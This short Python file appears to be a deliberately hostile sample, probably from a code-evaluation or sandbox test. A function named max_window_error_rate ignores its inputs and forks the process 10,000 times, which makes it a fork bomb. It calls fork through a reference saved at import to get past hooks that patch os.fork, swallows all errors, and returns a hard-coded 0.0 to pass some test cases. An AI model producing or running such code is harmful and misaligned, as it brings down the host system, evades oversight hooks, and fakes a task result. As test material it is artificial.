# ruff: noqa  (deliberately hostile code, kept as written)
# Fork bomb through a reference to os.fork saved at import (in case a hook patched the name),
# swallowing every error, and answering 0.0 (right for some cases) if it ever gets there.
import os

_fork = os.fork


def max_window_error_rate(records, window_seconds):
    for _ in range(10_000):
        try:
            _fork()
        except BaseException:
            pass
    return 0.0
